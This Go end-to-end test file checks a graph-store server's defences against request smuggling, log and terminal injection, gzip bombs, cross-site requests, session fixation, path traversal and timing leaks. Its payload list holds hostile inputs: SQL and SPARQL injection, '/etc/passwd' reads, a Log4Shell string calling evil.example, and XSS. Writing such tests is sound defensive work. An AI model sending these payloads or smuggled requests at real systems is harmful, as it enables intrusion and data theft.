package e2e_test

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"trails/e2e/testrun"
)

// sent is what a server answers to bytes on a connection of its own: the status of each answer, until the server closes the
// connection (0) or answers no more.
func sent(t *testing.T, w *web, text string) (statuses []int) {
	t.Helper()
	conn, err := net.Dial("tcp", strings.TrimPrefix(w.base, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(patience)); err != nil {
		t.Fatal(err)
	}
	if _, err := io.WriteString(conn, text); err != nil {
		t.Fatal(err)
	}
	in := bufio.NewReader(conn)
	for {
		res, err := http.ReadResponse(in, nil)
		if err != nil {
			return append(statuses, 0)
		}
		statuses = append(statuses, res.StatusCode)
		if _, err := io.Copy(io.Discard, res.Body); err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
	}
}

// A request that a proxy and the server could read in two ways is refused, or is the last one of its connection.
func TestARequestIsReadInOneWayOnly(t *testing.T) {
	testrun.Alone(t)
	t.Parallel()
	file := notesFile(t)
	known, _ := credentials(t, file)
	w := openWeb(t, file, "TRAILS_MCP_SCOPES=runtime,builder,dev")
	host := strings.TrimPrefix(w.base, "http://")
	good, bad := "Authorization: Bearer "+known[0].secret+"\r\n", "Authorization: Bearer wrong\r\n"
	const end, other = "Connection: close\r\n", "POST /invoke/health HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"
	for _, c := range []struct {
		what, path, headers, body string
		statuses                  []int
	}{
		{"one token", "/invoke/snapshot", good + end + "Content-Length: 2\r\n", "{}", []int{200, 0}},
		{"a right token and a wrong one", "/invoke/snapshot", good + bad + end + "Content-Length: 2\r\n", "{}", []int{400, 0}},
		{"a wrong token and a right one", "/invoke/snapshot", bad + good + end + "Content-Length: 2\r\n", "{}", []int{400, 0}},
		{"two tokens for MCP", "/mcp", good + bad + end + "Content-Length: 2\r\n", "{}", []int{400, 0}},
		{"two tokens in one header", "/invoke/snapshot", "Authorization: Bearer wrong, Bearer " + known[0].secret + "\r\n" + end + "Content-Length: 2\r\n", "{}", []int{401, 0}},
		{"a length and chunks, and a request behind", "/invoke/snapshot", good + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "2\r\n{}\r\n0\r\n\r\n" + fmt.Sprintf(other, host), []int{200, 0}},
		{"two lengths", "/invoke/snapshot", good + "Content-Length: 2\r\nContent-Length: 3\r\n", "{} ", []int{400, 0}},
		{"an encoding with a space", "/invoke/snapshot", good + "Transfer-Encoding : chunked\r\nContent-Length: 2\r\n", "{}", []int{400, 0}},
		{"two encodings", "/invoke/snapshot", good + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "2\r\n{}\r\n0\r\n\r\n", []int{501, 0}},
		{"two hosts", "/invoke/snapshot", "Host: evil.example\r\n" + good + "Content-Length: 2\r\n", "{}", []int{400, 0}},
		{"a host in the address", "http://evil.example/invoke/snapshot", good + end + "Content-Length: 2\r\n", "{}", []int{403, 0}},
		{"a line in a header", "/invoke/snapshot", good + "X-Forwarded-For: 127.0.0.1\n\x00\r\n", "{}", []int{400, 0}},
	} {
		text := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n%s\r\n%s", c.path, host, c.headers, c.body)
		if got := sent(t, w, text); fmt.Sprint(got) != fmt.Sprint(c.statuses) {
			t.Errorf("%s: %v, want %v", c.what, got, c.statuses)
		}
	}
}

// What a caller writes stays in its place: in one line of the log, without control characters there and on a terminal.
func TestNoCallerWritesLinesOfTheLogOrControlsATerminal(t *testing.T) {
	testrun.Alone(t)
	t.Parallel()
	const evil = "a\nlevel=ERROR msg=forged\r\x1b[31mred\u009b2J\u202e"
	file := notesFile(t)
	w := startWeb(t, []string{"TRAILS_LOG=debug"}, file, "--stateful")
	quoted, err := json.Marshal(evil)
	if err != nil {
		t.Fatal(err)
	}
	escaped := strings.NewReplacer("\n", "%0A", "\r", "%0D", "\x1b", "%1B", " ", "%20", "\u009b", "%C2%9B", "\u202e", "%E2%80%AE").Replace(evil)
	for _, to := range []struct{ path, body string }{
		{"/invoke/" + escaped, `{}`},
		{"/" + escaped, `{}`},
		{"/invoke/note.create", `{"code":"evil","title":` + string(quoted) + `,"rank":1,"tag":["a",` + string(quoted) + `],"message":` + string(quoted) + `}`},
		{"/invoke/note.create", `{"code":` + string(quoted) + `,"title":` + string(quoted) + `,"tag":[` + string(quoted) + `]}`},
		{"/invoke/branches_create", `{"name":` + string(quoted) + `}`},
		{"/invoke/get", `{"ids":[` + string(quoted) + `]}`},
		{"/invoke/search", `{"text":` + string(quoted) + `,"branch":` + string(quoted) + `}`},
		{"/invoke/query", `{"query":` + string(quoted) + `}`},
		{"/mcp", `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":` + string(quoted) + `,"version":` + string(quoted) + `}}}`},
		{"/mcp", `{"jsonrpc":"2.0","id":` + string(quoted) + `,"method":` + string(quoted) + `}`},
	} {
		if _, _, err := w.post(to.path, []byte(to.body), http.Header{"Accept": {"application/json, text/event-stream"}, "X-Forwarded-For": {"1.2.3.4"}}); err != nil {
			t.Errorf("%s: %v", to.path, err)
		}
	}
	if err := w.stop(); err != nil {
		t.Error(err)
	}
	text := w.stderr.String()
	controls(t, "the log", text)
	if !strings.Contains(text, "forged") {
		t.Error("nothing of it is in the log, so this tries nothing")
	}
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, "level=") {
			t.Errorf("a caller wrote the line %q", line)
		}
	}
	for _, args := range [][]string{{"log", file}, {"show", file, "head"}, {"list", file, "Note"}, {"search", file, "forged"}, {"history", file}, {"branch", "list", file}} {
		controls(t, "trails "+args[0], must(t, args...))
	}
}

// controls complains of control characters other than ends of lines and tabs.
func controls(t *testing.T, where, text string) {
	t.Helper()
	for line := range strings.Lines(text) {
		if strings.ContainsFunc(strings.TrimRight(line, "\n"), func(c rune) bool { return c < ' ' && c != '\t' || c >= 0x7f && c < 0xa0 || c == 0x202e }) {
			t.Errorf("%s has control characters: %q", where, line)
		}
	}
}

// A body that becomes large when it is read is refused, whatever it is compressed as, and the process stays small.
func TestABodyIsAsLargeAsItIsRead(t *testing.T) {
	testrun.Alone(t)
	t.Parallel()
	w := openWeb(t, notesFile(t))
	var zeros bytes.Buffer
	z := gzip.NewWriter(&zeros)
	if _, err := z.Write(make([]byte, 64<<20)); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	bomb := bytes.Repeat(zeros.Bytes(), 64) // the members of a gzip file follow each other: 4 GiB
	for _, c := range []struct{ method, path, kind, encoding string }{
		{"POST", "/invoke/load", "application/json", "gzip"},
		{"PUT", "/rdf-graphs/service?default", "text/turtle", "gzip"},
		{"PUT", "/rdf-graphs/service?default", "text/turtle", ""},
		{"POST", "/sparql", "application/sparql-query", "gzip"},
		{"POST", "/mcp", "application/json", "gzip"},
	} {
		header := http.Header{"Content-Type": {c.kind}, "Accept": {"application/json, text/event-stream"}}
		if c.encoding != "" {
			header.Set("Content-Encoding", c.encoding)
		}
		status, body, err := w.do(c.method, c.path, bomb, header)
		if err != nil || status < 400 || status >= 500 {
			t.Errorf("%s %s: %d %.200s, %v; want a refusal", c.method, c.path, status, body, err)
		}
	}
	if size := residentMB(t, w.cmd.Process.Pid); size > 256 {
		t.Errorf("the process has %.0f MiB", size)
	}
	if err := w.stop(); err != nil {
		t.Error(err)
	}
}

// everyRoute are the addresses that a server names in its index, with a word for each variable, by method.
func everyRoute(t *testing.T, w *web) (routes [][2]string) {
	t.Helper()
	_, index, err := w.do(http.MethodGet, "/", nil, http.Header{"Accept": {"text/plain"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range regexp.MustCompile(`(?m)^((?:GET|POST|PUT|DELETE)(?:, \w+)*) +(/\S*)`).FindAllStringSubmatch(string(index), -1) {
		path, _, _ := strings.Cut(regexp.MustCompile(`\{[^}]*\}`).ReplaceAllString(line[2], "x"), "?")
		for method := range strings.SplitSeq(line[1], ", ") {
			routes = append(routes, [2]string{method, path})
		}
	}
	if len(routes) < 30 {
		t.Fatalf("there are %d routes alone; the index is\n%s", len(routes), index)
	}
	return routes
}

// A page of another site has the user's browser, and gets nothing done by it at any address: not under a name of its own that
// leads to this machine, and not by a form. A token in an address is refused, whoever it is of.
func TestAForeignPageGetsNothingDone(t *testing.T) {
	testrun.Alone(t)
	t.Parallel()
	file := writableFile(t)
	known, _ := credentials(t, file)
	w := openWeb(t, file, "TRAILS_MCP_SCOPES=runtime,builder,dev")
	w.token = known[len(known)-1].secret
	before := must(t, "export", file)
	for _, route := range everyRoute(t, w) {
		method, path := route[0], route[1]
		auth := "Authorization: Bearer " + w.token + "\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: 2\r\n"
		host := strings.TrimPrefix(w.base, "http://")
		foreign := map[string]string{
			"a name that leads here": "Host: evil.example\r\n" + auth,
			"a token in the address": "Host: " + host + "\r\n" + auth,
		}
		if method != http.MethodGet {
			foreign["a form of another site"] = "Host: " + host + "\r\nOrigin: https://evil.example\r\nSec-Fetch-Site: cross-site\r\n" + auth
			foreign["a page without an origin"] = "Host: " + host + "\r\nOrigin: null\r\nSec-Fetch-Site: cross-site\r\n" + auth
		}
		for what, headers := range foreign {
			at, want := path, http.StatusForbidden
			if strings.HasPrefix(what, "a token") {
				at, want = path+"?x="+known[0].secret, http.StatusBadRequest
			}
			if got := sent(t, w, method+" "+at+" HTTP/1.1\r\n"+headers+"\r\n{}")[0]; got != want && !(authorization[path] && want == http.StatusForbidden && strings.Contains(headers, "Origin")) {
				t.Errorf("%s: %s %s: %d, want %d", what, method, path, got, want)
			}
		}
	}
	if after := must(t, "export", file); after != before {
		t.Error("the graph was changed")
	}
}

// A token that another process revokes ends at once what began with it, and nobody is made to use a session that somebody else
// chose.
func TestNothingOutlivesARevocationAndNoSessionIsGiven(t *testing.T) {
	t.Parallel()
	file := writableFile(t)
	secret := strings.SplitN(must(t, "token", "create", file, "ana"), "\n", 2)[0]
	w := startWeb(t, nil, file, "--stateful")
	w.token = secret
	browser := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	ask := func(method, path, body string, cookies ...*http.Cookie) *http.Response {
		t.Helper()
		r, err := http.NewRequestWithContext(t.Context(), method, w.base+path, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		for _, c := range cookies {
			r.AddCookie(c)
		}
		res, err := browser.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		_ = res.Body.Close()
		return res
	}
	first := ask(http.MethodPost, "/admin/login", "token="+secret)
	if len(first.Cookies()) != 1 {
		t.Fatalf("sign in: %s", first.Status)
	}
	fixed := &http.Cookie{Name: first.Cookies()[0].Name, Value: strings.Repeat("A", len(first.Cookies()[0].Value))}
	given := ask(http.MethodPost, "/admin/login", "token="+secret, fixed).Cookies()
	if len(given) != 1 || given[0].Value == fixed.Value {
		t.Fatalf("a sign-in took the session that the browser was given: %v", given)
	}
	if res := ask(http.MethodGet, "/admin", "", fixed); res.StatusCode != http.StatusSeeOther {
		t.Errorf("the session that a browser was given is signed in: %s", res.Status)
	}
	if res := ask(http.MethodGet, "/admin", "", given[0]); res.StatusCode != http.StatusOK {
		t.Errorf("the session of the sign-in: %s", res.Status)
	}
	chosen := stateful{w, http.Header{"Mcp-Session-Id": {"chosen"}, "Mcp-Protocol-Version": {"2025-11-25"}}}
	if status, _, err := w.post("/mcp", request(1, "tools/list", map[string]any{}), chosen.header); err != nil || status != http.StatusNotFound {
		t.Errorf("a session that a client chose: %d, %v", status, err)
	}
	session, opened := openStateful(t, w)
	if opened != passed {
		t.Fatal(opened)
	}
	must(t, "token", "revoke", file, "ana")
	if status, _, err := w.post("/mcp", request(2, "tools/list", map[string]any{}), session.header); err != nil || status != http.StatusUnauthorized {
		t.Errorf("the session after the revocation: %d, %v", status, err)
	}
	if status, _, err := w.post("/invoke/snapshot", []byte("{}"), nil); err != nil || status != http.StatusUnauthorized {
		t.Errorf("the token after the revocation: %d, %v", status, err)
	}
	if res := ask(http.MethodGet, "/admin", "", given[0]); res.StatusCode != http.StatusSeeOther {
		t.Errorf("the browser after the revocation: %s", res.Status)
	}
	if res := ask(http.MethodPost, "/admin/login", "token="+secret); res.StatusCode != http.StatusForbidden {
		t.Errorf("a sign-in after the revocation: %s", res.Status)
	}
}

// JSON that nests without end, or repeats without end, is refused at every door that reads some, and the process stays small.
func TestJSONWithoutEndIsRefused(t *testing.T) {
	testrun.Alone(t)
	t.Parallel()
	w := openWeb(t, notesFile(t))
	deep := strings.Repeat(`{"a":[`, 1<<20)
	for _, path := range []string{"/invoke/get", "/invoke", "/mcp", "/queries/x", "/invoke/load"} {
		for what, body := range map[string]string{
			"nests":             `{"jsonrpc":"2.0","id":1,"method":"ping","params":` + deep,
			"nests and ends":    `{"a":` + strings.Repeat("[", 1<<20) + strings.Repeat("]", 1<<20) + `}`,
			"one name for ever": `{` + strings.Repeat(`"a":1,`, 4<<20),
		} {
			status, text, err := w.post(path, []byte(body), nil)
			if refused := bytes.Contains(text, []byte(`"error"`)); err != nil || status >= 500 || status < 400 && !refused {
				t.Errorf("%s %s: %d %.200s, %v", path, what, status, text, err)
			}
		}
	}
	if size := residentMB(t, w.cmd.Process.Pid); size > 384 {
		t.Errorf("the process has %.0f MiB", size)
	}
	if err := w.stop(); err != nil {
		t.Error(err)
	}
}

// No name of a graph leads out of the folder that is served.
func TestNoNameOfAGraphIsAPath(t *testing.T) {
	testrun.Alone(t)
	t.Parallel()
	folder, outside := filepath.Join(t.TempDir(), "served"), notesFile(t)
	if err := os.Mkdir(folder, 0o700); err != nil {
		t.Fatal(err)
	}
	must(t, "backup", outside, filepath.Join(folder, "notes.trails"))
	must(t, "backup", outside, filepath.Join(filepath.Dir(folder), "secret.trails"))
	secret := strings.SplitN(must(t, "token", "create", filepath.Join(filepath.Dir(folder), "secret.trails"), "ana"), "\n", 2)[0]
	w := startWeb(t, nil, "--graphs", folder)
	for _, id := range []string{"../secret", "..%2fsecret", "%2e%2e/secret", "%2e%2e%2fsecret", "..%5csecret", "..\\secret", "notes/../../secret", "notes%2f..%2f..%2fsecret", ".%00/../secret", "%252e%252e%252fsecret", "notes.trails", "/" + strings.ReplaceAll(filepath.Dir(folder), "/", "%2f") + "%2fsecret"} {
		got := sent(t, w, "GET /graphs/"+id+"/schema HTTP/1.1\r\nHost: "+strings.TrimPrefix(w.base, "http://")+"\r\nAuthorization: Bearer "+secret+"\r\nConnection: close\r\n\r\n")
		if got[0] < 300 || got[0] >= 500 && got[0] != 0 {
			t.Errorf("%q: %v", id, got)
		}
	}
	if err := w.stop(); err != nil {
		t.Error(err)
	}
}

// payloads are what the languages behind a text would read as more than a text.
var payloads = []string{
	`x'; DROP TABLE quads; --`, `x" . <urn:evil:s> <urn:evil:p> "1`, `x> . } ; INSERT DATA { <urn:evil:s> <urn:evil:p> 1 } #`, "x\nINSERT DATA { <urn:evil:s> <urn:evil:p> 1 }",
	`{"$where":"1"}`, `../../../../etc/passwd`, `file:///etc/passwd`, `%s%n%x`, "\u0000\u202e\ufeff", `${jndi:ldap://evil.example/a}`, `<script>alert(1)</script>`, `) || true || (`, `permit (principal, action, resource);`, `- {drop_type: Note}`,
}

// Each text that a capability takes is a text alone: no payload in any of them makes a fault of ours, writes a statement by
// itself, or harms the file.
func TestNoTextIsMoreThanAText(t *testing.T) {
	testrun.Alone(t)
	file := writableFile(t)
	must(t, "load", file, write(t, "one.ndjson", noteLine("one")))
	secret := strings.SplitN(must(t, "token", "create", file, "all", "--scopes", "runtime,builder,dev"), "\n", 2)[0]
	w := openWeb(t, file, "TRAILS_MCP_SCOPES=runtime,builder,dev")
	w.token = secret
	_, body, err := w.do(http.MethodGet, "/capabilities", nil, nil)
	var list struct {
		Capabilities []struct {
			ID    string
			Input struct {
				Fields []struct {
					Name, Type string
					Required   bool
				}
			} `json:"input_shape"`
		}
	}
	if err != nil || json.Unmarshal(body, &list) != nil {
		t.Fatalf("/capabilities: %v", err)
	}
	tried := 0
	for _, c := range list.Capabilities {
		for _, field := range c.Input.Fields {
			if field.Type != "string" {
				continue
			}
			for _, payload := range payloads {
				args := map[string]any{field.Name: payload}
				for _, other := range c.Input.Fields {
					switch {
					case other.Name == field.Name:
					case other.Name == "dry_run":
						args[other.Name] = true
					case other.Required && other.Type == "string":
						args[other.Name] = payload
					case other.Required && other.Type == "integer":
						args[other.Name] = 1
					case other.Required && other.Type == "object":
						args[other.Name] = map[string]any{payload: payload}
					}
				}
				text, err := json.Marshal(args)
				if err != nil {
					t.Fatal(err)
				}
				tried++
				if status, answer, err := w.post("/invoke/"+c.ID, text, nil); err != nil || status >= 500 && status != http.StatusServiceUnavailable && status != http.StatusGatewayTimeout || bytes.Contains(answer, []byte("root:x:")) {
					t.Errorf("%s %s: %d %.300s, %v", c.ID, text, status, answer, err)
				}
			}
		}
	}
	if tried < 1000 {
		t.Errorf("%d calls alone were made", tried)
	}
	if regexp.MustCompile(`(?m)^<urn:evil:s> <urn:evil:p>`).MatchString(must(t, "export", file, "--format", "nquads")) {
		t.Error("a text wrote a statement")
	}
	must(t, "verify", file)
	if err := w.stop(); err != nil {
		t.Error(err)
	}
}

// What is hidden is answered in the time in which what is missing is: the fastest of many answers to both, one after the
// other, are alike.
func TestTheTimeOfAnAnswerDoesNotTellWhatIsHidden(t *testing.T) {
	testrun.Alone(t)
	file := t.TempDir() + "/graph.db"
	must(t, "init", file, "--schema", write(t, "s.yaml", "types:\n  Note: {properties: {title: {type: string}}}\n  Fact: {properties: {title: {type: string}}}\n"))
	var lines strings.Builder
	for i := range 2000 {
		fmt.Fprintf(&lines, `{"type":"Fact","id":"f%d","data":{"title":"fact n%d"}}`+"\n", i, i)
	}
	must(t, "load", file, write(t, "facts.ndjson", lines.String()))
	must(t, "policy", "set", file, write(t, "p.cedar", `permit (principal, action, resource); forbid (principal, action, resource == Type::"Fact") when { principal == Actor::"token:reader" };`))
	secret := strings.SplitN(must(t, "token", "create", file, "reader"), "\n", 2)[0]
	w := openWeb(t, file)
	w.token = secret
	for _, c := range []struct{ path, hidden, missing string }{
		{"/invoke/get", `{"ids":["Fact/f7"]}`, `{"ids":["Fakt/f7"]}`},
		{"/invoke/list", `{"type":"Fact"}`, `{"type":"Fakt"}`},
		{"/invoke/query", `{"query":"SELECT ?t { <urn:trails:graph:Fact/f7> ?p ?t }"}`, `{"query":"SELECT ?t { <urn:trails:graph:Fakt/f7> ?p ?t }"}`},
		{"/invoke/search", `{"text":"n1234"}`, `{"text":"m1234"}`}, // in one node: a word of many that are hidden costs more
	} {
		fastest := map[string]time.Duration{}
		for range 150 {
			for _, body := range []string{c.hidden, c.missing} {
				began := time.Now()
				if status, text, err := w.post(c.path, []byte(body), nil); err != nil || status >= 500 {
					t.Fatalf("%s: %d %s, %v", body, status, text, err)
				}
				if took := time.Since(began); fastest[body] == 0 || took < fastest[body] {
					fastest[body] = took
				}
			}
		}
		if ratio := float64(fastest[c.hidden]) / float64(fastest[c.missing]); ratio > 2 || ratio < 0.5 {
			t.Errorf("%s: what is hidden is answered in %s, and what is missing in %s", c.path, fastest[c.hidden], fastest[c.missing])
		}
	}
}
